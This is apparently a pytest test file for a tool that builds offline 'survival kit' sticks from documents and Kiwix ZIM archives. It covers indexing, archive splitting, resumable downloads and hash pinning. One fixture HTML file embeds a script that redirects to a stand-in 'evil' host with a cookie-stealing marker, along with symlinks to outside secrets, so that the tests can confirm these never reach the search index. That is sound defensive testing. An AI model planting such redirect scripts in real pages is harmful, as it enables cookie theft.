"""Knowledge onto a stick (kit.builder.knowledge, download, lock, sticktext), with real parts.

Real ZIM archives written by python-libzim's Creator (one with a full-text index, one without),
Markdown, HTML, text and a hand-written PDF that pypdf reads; real builds (no frozen runtime) of a
tiny real GGUF; downloads from a loopback HTTP server that honours Range. No network beyond
127.0.0.1.
"""

from __future__ import annotations

import dataclasses
import hashlib
import random
import re
import sqlite3
import textwrap
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import gguf
import numpy as np
import pytest
import tomlkit
from conftest import run_kit
from libzim.reader import Archive
from libzim.writer import Creator, Hint, Item, StringProvider

from kit.builder import build
from kit.builder.knowledge import part_names
from kit.builder.lock import lock_profile
from kit.builder.sticktext import readme_text
from kit.builder.zimparts import index_ranges
from kit.errors import BuildError, SourceError
from kit.ftsindex import open_index
from kit.integrity import verify_bundle
from kit.manifest import parse_bundle_manifest
from kit.zim import open_archive

SCRIPT_MARKER = "stealcookiesnow"
LINK_SECRET = "secretoutsidethefolder"
MIB = 1 << 20


# ---------------------------------------------------------------- real inputs made here

def make_gguf(path: Path) -> Path:
    """A tiny but complete llama-architecture GGUF: enough for the builder's header facts."""
    writer = gguf.GGUFWriter(path, arch="llama")
    writer.add_name("tiny")
    writer.add_context_length(64)
    writer.add_embedding_length(8)
    writer.add_block_count(1)
    writer.add_head_count(2)
    writer.add_head_count_kv(2)
    writer.add_feed_forward_length(16)
    writer.add_token_list(["<s>", "</s>", "water"])
    writer.add_tensor("token_embd.weight", np.zeros((3, 8), dtype=np.float32))
    writer.add_tensor("blk.0.attn_q.weight", np.zeros((8, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


class Article(Item):
    def __init__(self, path: str, title: str, html: str):
        super().__init__()
        self.path, self.title, self.html = path, title, html

    def get_path(self) -> str:
        return self.path

    def get_title(self) -> str:
        return self.title

    def get_mimetype(self) -> str:
        return "text/html"

    def get_contentprovider(self) -> StringProvider:
        return StringProvider(self.html)

    def get_hints(self) -> dict:
        return {Hint.FRONT_ARTICLE: True}


WIKI = {
    "Water_purification": ("Water purification",
                           "<h1>Water purification</h1><p>Bring water to a rolling boil for one minute to "
                           "purify it; filter cloudy water through cloth first.</p>"),
    "Hypothermia": ("Hypothermia", "<h1>Hypothermia</h1><p>Shivering, confusion and slurred speech: move the "
                                   "person out of the wind and warm the trunk first.</p>"),
}


def make_zim(path: Path, *, fulltext: bool, title: str = "Test wiki", padding: int = 0) -> Path:
    """A real ZIM archive; `padding` adds an article of that many hex characters of seeded noise
    (little of it compresses away) to make the file large enough to split."""
    with Creator(str(path)).config_indexing(fulltext, "eng") as creator:
        creator.set_mainpath("Water_purification")
        creator.add_metadata("Title", title)
        creator.add_metadata("Language", "eng")
        for entry, (name, body) in WIKI.items():
            page = f"<html><head><title>{name}</title></head><body>{body}</body></html>"
            creator.add_item(Article(entry, name, page))
        if padding:
            noise = random.Random(7).randbytes(padding // 2).hex()
            creator.add_item(Article("Noise", "Noise", f"<html><body><p>{noise}</p></body></html>"))
    return path


def minimal_pdf(pages: list[str]) -> bytes:
    """A PDF written by hand (Helvetica text, one content stream per page) whose text pypdf reads."""
    count = len(pages)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               f"<< /Type /Pages /Kids [{' '.join(f'{3 + 2 * i} 0 R' for i in range(count))}] /Count {count} >>"
               .encode()]
    font = 3 + 2 * count
    for i, text in enumerate(pages):
        lines = [line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") for line in text.split("\n")]
        stream = "\n".join(["BT", "/F1 12 Tf", "72 720 Td", "14 TL", *(f"({line}) Tj T*" for line in lines), "ET"])
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 {font} "
                       f"0 R >> >> /Contents {4 + 2 * i} 0 R >>".encode())
        objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream.encode("latin-1")))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def make_docs(folder: Path, outside: Path) -> Path:
    """A docs folder with every kind the builder reads, a licence, and things it must not take."""
    (folder / "first-aid").mkdir(parents=True)
    (folder / "water.md").write_text(textwrap.dedent("""\
        # Water

        ## Boiling

        Bring clear water to a rolling boil for one minute to purify it; three minutes above 2000 m.

        ## Chlorine tablets

        Follow the tablet's label and wait thirty minutes before drinking the treated water.
        """), encoding="utf-8")
    (folder / "first-aid" / "burns.html").write_text(textwrap.dedent(f"""\
        <html><head><title>Burns</title><script>document.location='http://evil/?{SCRIPT_MARKER}'</script></head>
        <body><h1>Burns</h1><h2>Cooling</h2>
        <p>Cool the burn under cool running water for twenty minutes; never use ice or butter.</p>
        <script>alert("{SCRIPT_MARKER}")</script></body></html>
        """), encoding="utf-8")
    (folder / "knots.txt").write_text("The bowline makes a fixed loop at the end of a rope that will not slip "
                                      "or jam, and is easy to untie after a load.\n", encoding="utf-8")
    (folder / "signals.pdf").write_bytes(minimal_pdf([
        "Signal mirror: flash sunlight towards aircraft.\nSweep the horizon slowly.",
        "Three blasts on a whistle are the distress signal; rescuers answer with two.",
    ]))
    (folder / "LICENSE.txt").write_text("CC0-1.0: no rights reserved.\n", encoding="utf-8")
    (folder / ".draft.md").write_text(f"# Draft\n\n{LINK_SECRET} hidden draft text that is long enough.\n")
    (folder / "photo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    outside.mkdir(exist_ok=True)
    (outside / "secret.md").write_text(f"# Secret\n\n{LINK_SECRET} lives outside the knowledge folder, far away.\n")
    (folder / "linked.md").symlink_to(outside / "secret.md")
    (folder / "linked-folder").symlink_to(outside, target_is_directory=True)
    return folder


def write_profile(folder: Path, model: Path, knowledge: str) -> Path:
    sha = hashlib.sha256(model.read_bytes()).hexdigest()
    profile = folder / "kit.toml"
    profile.write_text(textwrap.dedent(f"""\
        # keep this comment
        schema_version = 1
        name = "knowledge-test"

        [[models]]
        id = "tiny"
        name = "Tiny"
        licence = "none"
        chat_format = "alpaca"
        [models.source]
        kind = "path"
        path = "{model}"
        sha256 = "{sha}"
        """) + textwrap.dedent(knowledge), encoding="utf-8")
    return profile


def knowledge_table(entry_id: str, kind: str, **where: str) -> str:
    lines = [f'[[knowledge]]\nid = "{entry_id}"\nname = "{entry_id.title()}"\nkind = "{kind}"\n'
             f'licence = "CC0-1.0"\nlanguage = "en"']
    lines += [f'{key} = "{value}"' for key, value in where.items()]
    return "\n".join(lines) + "\n\n"


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def stick_manifest(target: Path):
    return parse_bundle_manifest((target / "KIT" / "bundle.json").read_bytes())


def all_passage_text(index: Path) -> str:
    with sqlite3.connect(index) as conn:
        return "\n".join(" ".join(row) for row in conn.execute("SELECT title, section, text, path FROM passages"))


# ---------------------------------------------------------------- fixtures

@pytest.fixture(autouse=True)
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The builder's cache (platformdirs reads XDG_CACHE_HOME) in this test's own folder."""
    cache = tmp_path / "xdg-cache"
    monkeypatch.setenv("XDG_CACHE_HOME", str(cache))
    monkeypatch.setenv("no_proxy", "127.0.0.1")
    return cache / "survival-kit"


@pytest.fixture(scope="module")
def model(tmp_path_factory) -> Path:
    return make_gguf(tmp_path_factory.mktemp("model") / "tiny.gguf")


@pytest.fixture(scope="module")
def archives(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("zims")
    return {"fulltext": make_zim(folder / "fulltext.zim", fulltext=True, title="Indexed wiki"),
            "titles": make_zim(folder / "titles.zim", fulltext=False, title="Titles wiki"),
            "big": make_zim(folder / "big.zim", fulltext=True, title="Big wiki", padding=5 * MIB)}


@dataclass
class ArchiveServer:
    """A loopback HTTP server of files by path; honours `Range: bytes=N-`; can drop a connection
    halfway through the body the first time a path is asked for."""

    files: dict[str, bytes] = field(default_factory=dict)
    drop_once: set[str] = field(default_factory=set)
    requests: list[tuple[str, str | None]] = field(default_factory=list)
    port: int = 0

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def gets(self, path: str) -> list[str | None]:
        """The Range header of each request for `path` (None: the whole file)."""
        return [rng for asked, rng in self.requests if asked == path]


def _handler(state: ArchiveServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            asked = self.headers.get("Range")
            state.requests.append((self.path, asked))
            body = state.files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            start = int(re.fullmatch(r"bytes=(\d+)-", asked)[1]) if asked else 0
            if start >= len(body) and asked:
                self.send_response(416)
                self.send_header("Content-Range", f"bytes */{len(body)}")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            self.send_response(206 if asked else 200)
            if asked:
                self.send_header("Content-Range", f"bytes {start}-{len(body) - 1}/{len(body)}")
            rest = body[start:]
            self.send_header("Content-Length", str(len(rest)))
            self.end_headers()
            if self.path in state.drop_once:  # half the body, then the connection goes
                state.drop_once.discard(self.path)
                self.wfile.write(rest[: len(rest) // 2])
                self.close_connection = True
                return
            self.wfile.write(rest)

        def log_message(self, *args) -> None:
            pass

    return Handler


@pytest.fixture
def server() -> Iterator[ArchiveServer]:
    state = ArchiveServer()
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _handler(state))
    state.port = httpd.server_address[1]
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield state
    httpd.shutdown()
    httpd.server_close()


# ---------------------------------------------------------------- docs and local archives

@pytest.fixture
def knowledge_stick(tmp_path: Path, model: Path, archives: dict[str, Path]):
    """A stick built from a docs folder and two local archives (one with a full-text index)."""
    make_docs(tmp_path / "profile" / "notes", tmp_path / "elsewhere")
    profile = write_profile(tmp_path / "profile", model,
                            knowledge_table("notes", "docs", path="notes")
                            + knowledge_table("wiki", "zim", path=str(archives["fulltext"]),
                                              sha256=sha256_of(archives["fulltext"]))
                            + knowledge_table("titles", "zim", path=str(archives["titles"])))
    lines: list[str] = []
    result = build(profile, tmp_path / "stick", freeze=False, report=lines.append)
    return result, lines, profile


def test_docs_and_archives_land_on_the_stick_listed_and_verified(knowledge_stick):
    result, lines, _ = knowledge_stick
    target = result.target
    manifest = stick_manifest(target)
    notes, wiki, titles = manifest.knowledge
    assert [k.id for k in manifest.knowledge] == ["notes", "wiki", "titles"]
    assert notes.kind == "docs" and notes.files == ("knowledge/notes/passages.sqlite", "knowledge/notes/LICENSE.txt")
    assert notes.facts == {"passages": notes.facts["passages"], "documents": 4} and notes.facts["passages"] >= 5
    assert notes.opened == ("knowledge/notes/passages.sqlite",)
    assert wiki.files == ("knowledge/wiki/wiki.zim",) and titles.files == ("knowledge/titles/titles.zim",)
    assert wiki.facts == {"articles": 2, "fulltext": True, "parts": 1, "title": "Indexed wiki"}
    assert titles.facts == {"articles": 2, "fulltext": False, "parts": 1, "title": "Titles wiki"}
    assert (notes.licence, notes.language) == ("CC0-1.0", "en")
    listed = {f.path for f in manifest.files}
    assert set(notes.files + wiki.files + titles.files) <= listed
    assert verify_bundle(target / "KIT", manifest).ok
    assert result.to_dict()["knowledge"] == ["notes", "wiki", "titles"]
    assert "knowledge: notes, wiki, titles" in result.summary()
    assert any(line.startswith("knowledge notes: ") and "passages from 4 documents" in line for line in lines)


def test_the_index_finds_the_right_passage_of_each_kind(knowledge_stick):
    index = open_index(knowledge_stick[0].target / "KIT" / "knowledge" / "notes" / "passages.sqlite", "notes")
    expected = {"how long to boil water to purify it": ("water.md", "Boiling"),
                "cool a burn with running water": ("first-aid/burns.html", "Cooling"),
                "whistle distress signal blasts": ("signals.pdf", "page 2"),
                "signal mirror aircraft": ("signals.pdf", "page 1"),
                "bowline loop rope": ("knots.txt", "")}
    for query, (path, section) in expected.items():
        best = index.search(query, limit=3)[0].passage
        assert (best.path, best.section, best.source) == (path, section, "notes"), query
    assert index.search("purify", limit=1)[0].passage.title == "Water"


def test_script_text_links_hidden_files_and_licences_never_reach_the_index(knowledge_stick):
    result, lines, _ = knowledge_stick
    text = all_passage_text(result.target / "KIT" / "knowledge" / "notes" / "passages.sqlite")
    assert SCRIPT_MARKER not in text and "<script" not in text and "<p>" not in text
    assert LINK_SECRET not in text  # neither the linked file, the linked folder nor the hidden draft
    assert "no rights reserved" not in text  # the licence is staged, not indexed
    assert "linked.md" not in text and "secret.md" not in text
    assert any("skipping linked.md: a link" in line for line in lines)
    assert any("skipping linked-folder: a link" in line for line in lines)
    assert any("skipping photo.png" in line for line in lines)
    licence = result.target / "KIT" / "knowledge" / "notes" / "LICENSE.txt"
    assert licence.read_text() == "CC0-1.0: no rights reserved.\n"
    assert not list((result.target / "KIT").rglob("*.md"))


def test_staged_archives_open_and_search_with_libzim(knowledge_stick):
    kit_dir = knowledge_stick[0].target / "KIT"
    indexed = open_archive(kit_dir / "knowledge" / "wiki" / "wiki.zim", "wiki")
    assert indexed.search_paths(["purify"], 5) == ["Water_purification"]
    titles = open_archive(kit_dir / "knowledge" / "titles" / "titles.zim", "titles")
    assert "Hypothermia" in titles.search_paths(["hypothermia"], 5)


def test_readme_names_each_source_its_licence_and_where_it_is(knowledge_stick):
    readme = (knowledge_stick[0].target / "README.txt").read_text(encoding="utf-8").replace("\r\n", "\n")
    section = " ".join(readme.split("KNOWLEDGE ON THIS STICK", 1)[1].split())  # as read, not as wrapped
    for expected in ("Notes (id notes) documents, indexed for search:", "passages from 4 documents",
                     "Wiki (id wiki) Kiwix archive (ZIM): 2 articles", "licence: CC0-1.0", "language: en",
                     "files: in KIT/knowledge/notes/: passages.sqlite (the search index), LICENSE.txt",
                     "files: in KIT/knowledge/wiki/: wiki.zim", "cat NAME.zim?? > NAME.zim"):
        assert expected in section, expected
    assert max(len(line) for line in readme.splitlines()) <= 100
    without = dataclasses.replace(knowledge_stick[0].manifest, knowledge=())
    assert "KNOWLEDGE" not in readme_text(without) and "Kiwix" not in readme_text(without)


def test_a_second_build_keeps_every_file(knowledge_stick, tmp_path):
    first, _, profile = knowledge_stick
    staged = sorted((first.target / "KIT" / "knowledge").rglob("*"))
    before = {p: (p.read_bytes() if p.is_file() else None, p.stat().st_mtime_ns) for p in staged}
    lines: list[str] = []
    again = build(profile, first.target, freeze=False, report=lines.append)
    assert again.copied == 0 and again.kept == len(again.manifest.files)
    assert sorted((first.target / "KIT" / "knowledge").rglob("*")) == staged
    assert {p: (p.read_bytes() if p.is_file() else None, p.stat().st_mtime_ns) for p in staged} == before
    assert "knowledge notes: passages.sqlite already on the stick" in lines


def test_a_source_taken_out_of_the_profile_leaves_the_stick(knowledge_stick, model):
    first, _, profile = knowledge_stick
    text = profile.read_text()
    profile.write_text(text[: text.index('[[knowledge]]\nid = "wiki"')])
    build(profile, first.target, freeze=False)
    assert sorted(p.name for p in (first.target / "KIT" / "knowledge").iterdir()) == ["notes"]
    assert [k.id for k in stick_manifest(first.target).knowledge] == ["notes"]


def test_a_large_archive_is_cut_into_parts_that_libzim_reads_as_one(tmp_path, model, archives):
    big = archives["big"]
    assert big.stat().st_size > 2 * MIB
    profile = write_profile(tmp_path, model, knowledge_table("big", "zim", path=str(big)))
    target = tmp_path / "stick"
    result = build(profile, target, freeze=False, max_file_size=MIB)
    entry = stick_manifest(target).knowledge[0]
    count = entry.facts["parts"]
    assert count >= -(-big.stat().st_size // MIB) >= 3
    assert entry.files == tuple(f"knowledge/big/{name}" for name in part_names("big", count))
    assert [n.rsplit("/", 1)[1] for n in entry.files[:3]] == ["big.zimaa", "big.zimab", "big.zimac"]
    folder = target / "KIT" / "knowledge" / "big"
    assert all((folder / f.rsplit("/", 1)[1]).stat().st_size <= MIB for f in entry.files)
    assert b"".join((target / "KIT" / f).read_bytes() for f in entry.files) == big.read_bytes()
    assert not (folder / "big.zim").exists()
    joined = Archive(str(folder / "big.zim"))  # libzim finds big.zimaa, big.zimab, ... itself
    assert joined.check() and joined.article_count == 3
    assert open_archive(folder / "big.zim", "big").search_paths(["purify"], 5) == ["Water_purification"]
    assert verify_bundle(target / "KIT", result.manifest).ok

    again = build(profile, target, freeze=False, max_file_size=MIB)  # the parts are kept, not cut again
    assert again.copied == 0

    build(profile, target, freeze=False)  # no limit: one file again, the parts go
    assert sorted(p.name for p in folder.iterdir()) == ["big.zim"]


def test_no_cut_falls_inside_a_search_index(tmp_path, model, archives):
    """libzim reads its Xapian indexes by offset within one file: a limit whose even cuts would
    split the largest index still gives parts in which full-text search works."""
    big = archives["big"]
    begin, end = max(index_ranges(big), key=lambda r: r[1] - r[0])
    limit = (begin + end) // 2 // 2  # an even cut at 2 × limit would land inside that index
    assert limit >= MIB and begin < 2 * limit < end
    profile = write_profile(tmp_path, model, knowledge_table("big", "zim", path=str(big)))
    lines: list[str] = []
    build(profile, tmp_path / "stick", freeze=False, max_file_size=limit, report=lines.append)
    entry = stick_manifest(tmp_path / "stick").knowledge[0]
    folder = tmp_path / "stick" / "KIT" / "knowledge" / "big"
    sizes = [(folder / f.rsplit("/", 1)[1]).stat().st_size for f in entry.files]
    assert all(size <= limit for size in sizes) and sum(sizes[:2]) == begin  # the second cut moved back
    joined = Archive(str(folder / "big.zim"))
    assert joined.is_multipart and joined.has_fulltext_index and joined.has_title_index
    assert open_archive(folder / "big.zim", "big").search_paths(["hypothermia"], 5) == ["Hypothermia"]
    assert not any("search in this archive will not work" in line for line in lines)


# ---------------------------------------------------------------- archives by url

def url_profile(tmp_path: Path, model: Path, url: str, sha256: str | None) -> Path:
    pin = {"sha256": sha256} if sha256 else {}
    return write_profile(tmp_path, model, knowledge_table("remote", "zim", url=url, **pin))


def test_an_interrupted_download_resumes_and_is_kept_for_the_next_build(tmp_path, model, archives, server,
                                                                        private_cache):
    data = archives["fulltext"].read_bytes()
    server.files["/zim/wiki.zim"] = data
    server.drop_once.add("/zim/wiki.zim")
    sha = hashlib.sha256(data).hexdigest()
    profile = url_profile(tmp_path, model, server.url("/zim/wiki.zim"), sha)
    lines: list[str] = []
    build(profile, tmp_path / "stick", freeze=False, report=lines.append)
    half = len(data) // 2
    assert server.gets("/zim/wiki.zim") == [None, f"bytes={half}-"]
    assert any("resuming the download" in line for line in lines)
    staged = tmp_path / "stick" / "KIT" / "knowledge" / "remote" / "remote.zim"
    assert staged.read_bytes() == data
    cached = private_cache / "knowledge" / f"{sha}.zim"
    assert cached.read_bytes() == data and not list(cached.parent.glob("*.part"))

    build(profile, tmp_path / "other-stick", freeze=False)
    assert len(server.gets("/zim/wiki.zim")) == 2  # the cache served the second build


def test_a_part_left_by_an_earlier_run_is_resumed_with_a_range(tmp_path, model, archives, server, private_cache):
    data = archives["titles"].read_bytes()
    sha = hashlib.sha256(data).hexdigest()
    server.files["/titles.zim"] = data
    part = private_cache / "knowledge" / f"{sha}.zim.part"
    part.parent.mkdir(parents=True)
    part.write_bytes(data[:1000])
    build(url_profile(tmp_path, model, server.url("/titles.zim"), sha), tmp_path / "stick", freeze=False)
    assert server.gets("/titles.zim") == ["bytes=1000-"]
    assert (tmp_path / "stick" / "KIT" / "knowledge" / "remote" / "remote.zim").read_bytes() == data


def test_a_download_that_does_not_match_its_pin_is_refused_and_deleted(tmp_path, model, archives, server,
                                                                       private_cache):
    server.files["/wiki.zim"] = archives["fulltext"].read_bytes()
    wrong = "0" * 64
    with pytest.raises(SourceError, match=f"expected sha256 {wrong}") as caught:
        build(url_profile(tmp_path, model, server.url("/wiki.zim"), wrong), tmp_path / "stick", freeze=False)
    assert "\n" not in str(caught.value)
    assert list((private_cache / "knowledge").iterdir()) == []  # neither the part nor a renamed file


def test_an_unpinned_url_is_refused_before_the_stick_is_touched(tmp_path, model, server):
    server.files["/wiki.zim"] = b"never fetched"
    with pytest.raises(SourceError) as caught:
        build(url_profile(tmp_path, model, server.url("/wiki.zim"), None), tmp_path / "stick", freeze=False)
    assert "no sha256 pin" in str(caught.value) and "kit lock" in caught.value.hint
    assert not (tmp_path / "stick").exists() and server.requests == []


def test_a_missing_url_is_one_sentence(tmp_path, model, server):
    with pytest.raises(SourceError, match="404") as caught:
        build(url_profile(tmp_path, model, server.url("/gone.zim"), "1" * 64), tmp_path / "stick", freeze=False)
    assert "\n" not in str(caught.value)


# ---------------------------------------------------------------- hostile or broken knowledge

def test_a_malformed_pdf_stops_the_build_in_one_sentence_naming_it(tmp_path, model, private_cache):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "good.md").write_text("# Good\n\nA document with enough text to make one passage of the index.\n")
    (folder / "broken.pdf").write_bytes(minimal_pdf(["Some text on a page"])[:180] + b"\x00garbage")
    profile = write_profile(tmp_path, model, knowledge_table("docs", "docs", path="docs"))
    done = run_kit("build", "--profile", str(profile), "--target", str(tmp_path / "stick"), "--no-freeze",
                   env={"XDG_CACHE_HOME": str(private_cache.parent)})
    assert 1 <= done.returncode <= 3, done.stderr
    assert "Traceback" not in done.stderr
    sentence, fix = done.stderr.rstrip("\n").splitlines()[-2:]
    assert sentence.startswith("kit: knowledge docs: docs/broken.pdf is not a readable PDF"), sentence
    assert "remove or replace it" in sentence and fix.startswith("  what to do: remove docs/broken.pdf")
    assert (tmp_path / "stick" / "KIT" / "INCOMPLETE").exists()


def test_a_folder_without_documents_is_refused(tmp_path, model):
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty" / "LICENSE").write_text("CC0")
    profile = write_profile(tmp_path, model, knowledge_table("empty", "docs", path="empty"))
    with pytest.raises(BuildError, match="holds no document with text to index"):
        build(profile, tmp_path / "stick", freeze=False)


@pytest.mark.parametrize("damage", ["truncated", "flipped byte", "not a zim"])
def test_a_damaged_archive_is_refused(tmp_path, model, archives, damage):
    data = bytearray(archives["fulltext"].read_bytes())
    if damage == "truncated":
        data = data[: len(data) // 2]
    elif damage == "flipped byte":
        data[len(data) // 2] ^= 0xFF
    else:
        data = bytearray(b"<html>this is not an archive</html>" * 100)
    bad = tmp_path / "bad.zim"
    bad.write_bytes(bytes(data))
    profile = write_profile(tmp_path, model, knowledge_table("bad", "zim", path=str(bad)))
    with pytest.raises(BuildError) as caught:
        build(profile, tmp_path / "stick", freeze=False)
    assert str(caught.value).startswith("knowledge bad: ") and "\n" not in str(caught.value)
    assert not (tmp_path / "stick" / "KIT" / "knowledge" / "bad").exists()


def test_a_local_archive_that_does_not_match_its_pin_is_refused(tmp_path, model, archives):
    profile = write_profile(tmp_path, model, knowledge_table("wiki", "zim", path=str(archives["titles"]),
                                                             sha256="2" * 64))
    with pytest.raises(BuildError, match="the profile pins 2222"):
        build(profile, tmp_path / "stick", freeze=False)


# ---------------------------------------------------------------- kit lock

def knowledge_pins(profile: Path) -> dict[str, str | None]:
    document = tomlkit.parse(profile.read_text(encoding="utf-8"))
    return {str(k["id"]): (str(k["sha256"]) if "sha256" in k else None) for k in document["knowledge"]}


def test_lock_pins_an_archive_url_from_its_published_sha256_and_a_local_one_by_hash(tmp_path, model, archives,
                                                                                   server):
    data = archives["fulltext"].read_bytes()
    sha = hashlib.sha256(data).hexdigest()
    server.files["/zim/wiki.zim"] = data
    server.files["/zim/wiki.zim.sha256"] = f"{sha}  wiki.zim\n".encode()
    (tmp_path / "notes").mkdir()
    profile = write_profile(tmp_path, model, knowledge_table("wiki", "zim", url=server.url("/zim/wiki.zim"))
                            + knowledge_table("local", "zim", path=str(archives["titles"]))
                            + knowledge_table("notes", "docs", path="notes"))

    lines = lock_profile(profile, cache_dir=tmp_path / "cache")

    assert lines == ["knowledge wiki: sha256 set", "knowledge local: sha256 set"]
    assert knowledge_pins(profile) == {"wiki": sha, "local": sha256_of(archives["titles"]), "notes": None}
    assert server.gets("/zim/wiki.zim") == []  # the published hash was enough
    assert "# keep this comment" in profile.read_text()
    locked = profile.read_bytes()
    assert lock_profile(profile, cache_dir=tmp_path / "cache") == []
    assert profile.read_bytes() == locked


def test_lock_downloads_and_hashes_an_archive_without_a_published_sha256(tmp_path, model, archives, server,
                                                                         private_cache):
    data = archives["titles"].read_bytes()
    server.files["/titles.zim"] = data
    profile = write_profile(tmp_path, model, knowledge_table("titles", "zim", url=server.url("/titles.zim")))

    assert lock_profile(profile) == ["knowledge titles: sha256 set"]

    sha = hashlib.sha256(data).hexdigest()
    assert knowledge_pins(profile) == {"titles": sha}
    assert (private_cache / "knowledge" / f"{sha}.zim").read_bytes() == data
    build(profile, tmp_path / "stick", freeze=False)
    assert server.gets("/titles.zim") == [None]  # the build used what lock downloaded
    assert lock_profile(profile) == []  # pinned, and no published hash to compare with: left alone


def test_lock_refuses_a_published_sha256_of_another_file(tmp_path, model, server):
    server.files["/wiki.zim.sha256"] = f"{'3' * 64}  other.zim\n".encode()
    profile = write_profile(tmp_path, model, knowledge_table("wiki", "zim", url=server.url("/wiki.zim")))
    with pytest.raises(SourceError, match="hash of another file"):
        lock_profile(profile, cache_dir=tmp_path / "cache")


def test_the_demo_profile_carries_its_knowledge_pack():
    from kit.manifest import load_profile

    root = Path(__file__).resolve().parents[1]
    (entry,) = load_profile(root / "manifests" / "demo.toml").knowledge
    assert (entry.id, entry.kind, entry.path, entry.language) == ("survival-demo", "docs", "knowledge/demo", "en")
    assert (root / "manifests" / entry.path).is_dir()
    field = load_profile(root / "manifests" / "field.toml").knowledge
    assert field and all(k.kind == "zim" and k.url.startswith("https://download.kiwix.org/zim/") for k in field)

